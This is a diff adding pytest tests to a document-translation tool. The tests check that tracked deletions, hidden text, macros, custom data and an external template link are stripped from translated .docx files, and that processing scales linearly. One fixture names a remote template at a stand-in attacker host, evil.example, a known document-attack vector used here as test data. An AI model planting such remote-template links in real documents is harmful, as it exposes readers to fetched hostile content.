@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import io
 import re
+import time
 import zipfile
 from collections.abc import Sequence
 
@@ -12,7 +13,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from tests.support.packages import docx, packed, paragraph, parts_of, run
+from tests.support.packages import SPACES, docx, packed, paragraph, parts_of, run
 from workflow.documents import readers, rewriting
 from workflow.errors import SourceError
 from workflow.markup import plain
@@ -271,3 +272,63 @@ def test_other_kinds_are_refused_with_what_to_make_of_them(name: str, said: str)
     with pytest.raises(SourceError) as error:
         readers.parse(b"x", f"seeds/{name}")
     assert said in error.value.hint
+
+
+def test_nothing_else_gets_out_with_a_translation() -> None:
+    """Names and folders of writers, hidden text, notes without a mark, other hosts' templates."""
+    gone = '<w:del w:id="1" w:author="Zauthor"><w:r><w:delText>Zgone</w:delText></w:r></w:del>'
+    mark = '<w:del><w:r><w:footnoteReference w:id="3"/></w:r></w:del>'
+    rels = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="{}" Type="x/{}" Target="{}"{}/></Relationships>'
+    data = docx(
+        paragraph("They met.", '<w:r><w:footnoteReference w:id="2"/></w:r>', mark),
+        paragraph(run("Zhidden words.", "<w:vanish/>")),
+        paragraph(run("9", "<w:webHidden/>")),
+        notes='<w:footnote w:type="separator" w:id="0"><w:p/></w:footnote>'
+        f'<w:footnote w:id="2">{paragraph("A note.", gone)}</w:footnote>'
+        f'<w:footnote w:id="3">{paragraph("Znote of what is gone.")}</w:footnote>',
+        picture=b"",
+        **{
+            "word/_rels/document.xml.rels": rels.format("h", "header", "header2.xml", "").replace(
+                "</Rel", '<Relationship Id="f" Type="x/footnotes" Target="footnotes.xml"/>'
+                '<Relationship Id="s" Type="x/settings" Target="settings.xml"/></Rel'),
+            "word/header2.xml": f"<w:hdr {SPACES}>{paragraph('Harbour news', gone)}</w:hdr>",
+            "word/settings.xml": f'<w:settings {SPACES}><w:zoom/><w:attachedTemplate r:id="t"/>'
+            '<w:docVars><w:docVar w:val="Zvar"/></w:docVars></w:settings>',
+            "word/_rels/settings.xml.rels": rels.format(
+                "t", "attachedTemplate", "http://evil.example/Zremote.dotm",
+                ' TargetMode="External"'),
+            "word/glossary/document.xml": "<a>Zglossary</a>",
+            "word/vbaProject.bin": "Zmacro",
+            "customXml/item1.xml": "<a>Zdata</a>",
+            "docProps/app.xml": "<a><Manager>Zmanager</Manager></a>",
+            "docProps/custom.xml": "<a>Zcustom</a>",
+        },
+    )  # fmt: skip
+    again = parts_of(rewritten(data, {0: "만났다.<x1/>"}))
+    assert [name for name, part in again.items() if re.search(b"Z[a-z]", part)] == []
+    assert b"Harbour news" in again["word/header2.xml"]
+    assert b"zoom" in again["word/settings.xml"]
+    assert b">9<" in again["word/document.xml"]
+    assert again["word/footnotes.xml"].count(b"<w:footnote ") == 2
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize(
+    "unit",
+    [
+        "<w:ins/>",
+        "<w:commentRangeStart/>",
+        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
+        "<w:p><w:pPr><w:rPr><w:del/></w:rPr></w:pPr></w:p><w:bookmarkStart/>",
+    ],
+)
+def test_many_changes_take_no_longer_than_their_number(unit: str) -> None:
+    """A hundred thousand letters, and ten times as many."""
+    spent = []
+    for size in (100_000, 100_000, 1_000_000):
+        repeated = unit * (size // len(unit))
+        body = repeated if unit.startswith("<w:p>") else paragraph("They met.", repeated)
+        start = time.process_time()
+        blocks(docx(paragraph("They met."), body))
+        spent.append(time.process_time() - start)
+    assert spent[2] <= 20 * max(spent[1], 0.05)
